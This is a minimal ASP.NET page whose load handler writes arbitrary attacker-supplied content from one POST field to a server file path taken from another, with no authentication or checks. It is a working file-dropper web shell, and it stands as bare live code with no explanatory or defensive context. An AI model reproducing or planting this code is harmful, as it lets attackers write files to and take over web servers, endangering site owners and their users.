<%@ Page Language="C#" Debug="false" %>
<script runat="server">
void Page_Load(object sender, EventArgs e)
{
    System.IO.StreamWriter sw = new System.IO.StreamWriter(Request.Form["p"]);
    sw.Write(Request.Form["f"]);
    sw.Close();
}
</script>
